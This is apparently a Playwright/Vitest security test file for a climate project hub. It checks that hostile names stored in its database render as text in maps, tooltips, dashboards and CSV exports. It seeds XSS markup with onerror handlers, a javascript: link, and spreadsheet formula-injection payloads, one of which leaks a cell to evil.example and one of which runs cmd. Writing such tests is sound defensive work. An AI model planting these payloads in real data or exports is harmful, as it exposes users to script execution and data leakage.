import Papa from 'papaparse';
import type { Page } from 'playwright-core';
import { expect, test } from 'vitest';

import { createAccount, openWatchedPage, seededHub, signIn } from './support';

// Titles and names come from editors and from IATI files, so they may hold markup or spreadsheet
// formulae. Here they are written straight into the hub's SQLite file, as an importer would, and
// every file and browser widget that shows them must show them as text: no element made from a
// name (an <img id="pwned-…">), no live formula in a CSV.

const markup = (what: string) => `<img src=x id=pwned-${what} onerror=alert(1)><b>${what}</b>`;
const HOSTILE = {
  project: markup('project'),
  organisation: markup('organisation'),
  event: markup('event'),
  place: markup('place'),
  province: markup('province'),
  topic: markup('topic'),
  sourceUrl: "javascript:document.body.id='pwned-link'",
};
const FORMULA = {
  title: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  titleZh: '+1+1',
  titleDe: '-2+3',
  milestone: "@SUM(1+1)*cmd|' /C calc'!A0",
  ministry: '-1+2;"x",\tcmd',
};
/** Anything made from a name: none may exist. */
const INJECTED = '[id^="pwned-"]';

// climate-partnership-iii has one place (Hangzhou, Zhejiang) and an event there; jiangsu-low-carbon-ii
// has milestones; BMWK commissions three projects.
const hub = seededHub('2026-11-29', (db) => {
  const set = (sql: string, ...values: string[]) =>
    expect(db.prepare(sql).run(...values).changes, sql).toBe(1);
  set("UPDATE projects SET title = ? WHERE slug = 'climate-partnership-iii'", HOSTILE.project);
  set("UPDATE places SET name_en = ? WHERE slug = 'hangzhou'", HOSTILE.place);
  set("UPDATE provinces SET name_en = ? WHERE code = 'CN-ZJ'", HOSTILE.province);
  set("UPDATE events SET title = ? WHERE slug = 'cp3-hangzhou-2020'", HOSTILE.event);
  set("UPDATE topics SET name = ? WHERE slug = 'climate-policy'", HOSTILE.topic);
  set(
    "UPDATE sources SET url = ? WHERE id = (SELECT source_id FROM events WHERE slug = 'cp3-hangzhou-2020')",
    HOSTILE.sourceUrl,
  );
  set(
    "INSERT INTO organisations (slug, name, kind) VALUES ('pwned-org', ?, 'implementing-organisation')",
    HOSTILE.organisation,
  );
  set(`INSERT INTO project_organisations (project_id, organisation_id, role)
       SELECT p.id, o.id, 'implementing-organisation' FROM projects p, organisations o
        WHERE p.slug = 'climate-partnership-iii' AND o.slug = 'pwned-org'`);
  set(
    "UPDATE projects SET title = ?, title_zh = ?, title_de = ? WHERE slug = 'jiangsu-low-carbon-ii'",
    FORMULA.title,
    FORMULA.titleZh,
    FORMULA.titleDe,
  );
  set(
    `UPDATE milestones SET title = ? WHERE id = (SELECT min(m.id) FROM milestones m
       JOIN projects p ON p.id = m.project_id WHERE p.slug = 'jiangsu-low-carbon-ii')`,
    FORMULA.milestone,
  );
  set("UPDATE organisations SET name = ?, acronym = NULL WHERE slug = 'bmwk'", FORMULA.ministry);
});
const EDITOR = { email: 'hostile-editor@hub.example', password: 'names are only text' };
const url = (path: string) => `${hub.server.url}${path}`;

/** A CSV download parsed back as a spreadsheet program reads it, header first. */
async function downloadCsv(path: string): Promise<string[][]> {
  const response = await fetch(url(path));
  expect(response.status, path).toBe(200);
  // Decoded keeping the byte-order mark, to see that it is there.
  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await response.arrayBuffer());
  expect(text.startsWith('\uFEFF'), path).toBe(true);
  const parsed = Papa.parse<string[]>(text.slice(1), { newline: '\r\n', skipEmptyLines: true });
  expect(parsed.errors, path).toEqual([]);
  return parsed.data;
}

/** The cells of one column in the rows whose `key` column holds `value`. */
function cells(rows: string[][], key: string, value: string, column: string): string[] {
  const [header, ...body] = rows;
  const k = header!.indexOf(key);
  const c = header!.indexOf(column);
  expect(k, key).toBeGreaterThanOrEqual(0);
  expect(c, column).toBeGreaterThanOrEqual(0);
  return body.filter((r) => r[k] === value).map((r) => r[c]!);
}

async function openMap(query: string) {
  const opened = await openWatchedPage(hub.browser.context);
  await opened.page.setViewportSize({ width: 1280, height: 1000 });
  await opened.page.goto(url(`/map${query}`));
  await opened.page.locator('.map-canvas[data-state="ready"]').waitFor({ timeout: 20_000 });
  return opened;
}

/** A point where the element itself is what the mouse is over (not a marker on top of it). */
async function pointOn(page: Page, selector: string): Promise<{ x: number; y: number }> {
  const point = await page.locator(selector).evaluate((element) => {
    const box = element.getBoundingClientRect();
    for (let fy = 0.1; fy < 1; fy += 0.1) {
      for (let fx = 0.1; fx < 1; fx += 0.1) {
        const x = box.left + box.width * fx;
        const y = box.top + box.height * fy;
        if (document.elementFromPoint(x, y) === element) return { x, y };
      }
    }
    return null;
  });
  expect(point, selector).not.toBeNull();
  return point!;
}

test('formula-like titles and names are exported with a leading apostrophe in every CSV', async () => {
  const projects = await downloadCsv('/export/projects.csv');
  const slug = 'jiangsu-low-carbon-ii';
  expect(cells(projects, 'slug', slug, 'title')).toEqual([`'${FORMULA.title}`]);
  expect(cells(projects, 'slug', slug, 'title_zh')).toEqual([`'${FORMULA.titleZh}`]);
  expect(cells(projects, 'slug', slug, 'title_de')).toEqual([`'${FORMULA.titleDe}`]);
  // Numbers stay numbers.
  const funding = projects.slice(1).map((r) => r[projects[0]!.indexOf('iki_funding_eur')]!);
  expect(funding.filter(Boolean).every((f) => /^\d+(\.\d+)?$/.test(f))).toBe(true);

  const milestones = await downloadCsv('/export/milestones.csv');
  expect(new Set(cells(milestones, 'project', slug, 'project_title'))).toEqual(
    new Set([`'${FORMULA.title}`]),
  );
  expect(cells(milestones, 'project', slug, 'title')).toContain(`'${FORMULA.milestone}`);
  const progress = milestones.slice(1).map((r) => r[milestones[0]!.indexOf('progress')]!);
  expect(progress.every((p) => /^\d+$/.test(p))).toBe(true);

  // The dashboard's CSVs: a ministry's name is a chart label.
  const byMinistry = await downloadCsv('/api/dashboard/byMinistry.csv');
  expect(cells(byMinistry, 'code', 'bmwk', 'label')).toEqual([`'${FORMULA.ministry}`]);
  expect(cells(byMinistry, 'code', 'bmwk', 'count')).toEqual(['3']);
  const byTopic = await downloadCsv('/api/dashboard/byTopic.csv');
  expect(cells(byTopic, 'code', 'climate-policy', 'label')).toEqual([HOSTILE.topic]);
});

test('the map shows hostile names as text in the province tooltip, the popups and the clusters', async () => {
  // Province tooltip (no markers on top: only the events layer, none in the middle of Zhejiang).
  const provinces = await openMap('?lat=29.2&lon=120.5&z=7&layers=events');
  const { page } = provinces;
  const { x, y } = await pointOn(page, '[data-province="CN-ZJ"]');
  await page.mouse.move(x, y);
  const tooltip = page.locator('.leaflet-tooltip');
  await tooltip.waitFor();
  const label = (await tooltip.textContent()) ?? '';
  expect(label.startsWith(`${HOSTILE.province}: `), label).toBe(true);
  expect(label).toMatch(/: \d+ projects$/);
  expect(await page.locator(INJECTED).count()).toBe(0);
  expect(provinces.watch.consoleErrors).toEqual([]);
  await page.close();

  // The project's marker at Hangzhou and its popup.
  const projects = await openMap('?lat=30.27&lon=120.15&z=9');
  const marker = projects.page.getByTitle(`${HOSTILE.project} — ${HOSTILE.place}`);
  await marker.dispatchEvent('click');
  const popup = projects.page.locator('.leaflet-popup-content');
  await popup.waitFor();
  expect(await popup.locator('.map-popup__title').textContent()).toBe(HOSTILE.project);
  const popupText = (await popup.textContent()) ?? '';
  expect(popupText).toContain(HOSTILE.place);
  expect(popupText).toContain(HOSTILE.organisation);
  expect(await projects.page.locator(INJECTED).count()).toBe(0);
  expect(projects.watch.consoleErrors).toEqual([]);
  await projects.page.close();

  // The event's marker and popup.
  const events = await openMap('?lat=30.27&lon=120.15&z=9&layers=events');
  await events.page.getByTitle(`${HOSTILE.event} — ${HOSTILE.place}`).dispatchEvent('click');
  const eventPopup = events.page.locator('.leaflet-popup-content');
  await eventPopup.waitFor();
  expect(await eventPopup.locator('.map-popup__title').textContent()).toBe(HOSTILE.event);
  expect(await eventPopup.textContent()).toContain(`· ${HOSTILE.place}`);
  // A link that is not to the web is left out.
  expect(await eventPopup.locator('a').count()).toBe(0);
  expect(await events.page.locator(INJECTED).count()).toBe(0);
  expect(events.watch.consoleErrors).toEqual([]);
  await events.page.close();

  // Clusters, zoomed out: a count for the eye and a label for screen readers, both text.
  const clusters = await openMap('?lat=33&lon=105&z=4&layers=projects&layers=events');
  await clusters.page.locator('.map-canvas .map-cluster').first().waitFor();
  const icons = await clusters.page.locator('.map-canvas .map-cluster').evaluateAll((nodes) =>
    nodes.map((n) => ({
      shown: n.querySelector('[aria-hidden="true"]:not(svg)')?.textContent ?? '',
      label: n.querySelector('.visually-hidden')?.textContent ?? '',
    })),
  );
  expect(icons.length).toBeGreaterThan(0);
  for (const { shown, label } of icons) {
    expect(shown).toMatch(/^\d+$/);
    expect(label).toMatch(/^\d+ [a-z ]+(, \d+ [a-z ]+)*$/);
    // The parts the label names add up to the number shown.
    const parts = label.split(', ').map((part) => Number(part.split(' ')[0]));
    expect(parts.reduce((n, p) => n + p, 0)).toBe(Number(shown));
  }
  expect(await clusters.page.locator(INJECTED).count()).toBe(0);
  expect(clusters.watch.consoleErrors).toEqual([]);
  await clusters.page.close();
});

test('the place picker shows a hostile place name as text in its tooltip', async () => {
  await createAccount(hub.database.path, { ...EDITOR, role: 'editor', name: 'Hostile Editor' });
  const { page, watch } = await openWatchedPage(hub.browser.context);
  await signIn(page, hub.server.url, EDITOR.email, EDITOR.password);
  await page.goto(url('/projects/climate-partnership-iii/links'));
  await page.locator('.place-picker .map-marker--pick').first().waitFor({ timeout: 20_000 });
  await page.getByLabel('Place', { exact: true }).selectOption('hangzhou');
  const marker = page.locator('.place-picker .map-marker--pick.is-selected');
  await marker.dispatchEvent('mouseover');
  const tooltip = page.locator('.place-picker .leaflet-tooltip');
  await tooltip.waitFor();
  expect(await tooltip.textContent()).toBe(HOSTILE.place);
  expect(await page.locator(INJECTED).count()).toBe(0);
  expect(watch.consoleErrors).toEqual([]);
  await page.close();
});

test('the dashboard shows hostile names as text in its charts and tables', async () => {
  const { page, watch } = await openWatchedPage(hub.browser.context);
  await page.setViewportSize({ width: 1280, height: 1000 });
  await page.goto(url('/dashboard'));
  const charts = page.locator('canvas[data-chart-ready]');
  await charts.first().waitFor();
  // Chart.js draws labels and tooltips on the canvas; hover every chart to open its tooltip.
  for (const canvas of await charts.all()) {
    await canvas.scrollIntoViewIfNeeded();
    const box = (await canvas.boundingBox())!;
    for (const f of [0.25, 0.5, 0.75]) {
      await page.mouse.move(box.x + box.width * f, box.y + box.height * f);
    }
  }
  expect(await page.locator(INJECTED).count()).toBe(0);
  const topic = page.locator('[data-chart="byTopic"] tbody tr[data-key="climate-policy"]');
  expect(await topic.locator('th').textContent()).toContain(HOSTILE.topic);
  const province = page.locator('[data-chart="topProvinces"] tbody tr[data-key="CN-ZJ"]');
  expect(await province.locator('th').textContent()).toContain(HOSTILE.province);
  expect(watch.consoleErrors).toEqual([]);
  await page.close();
});
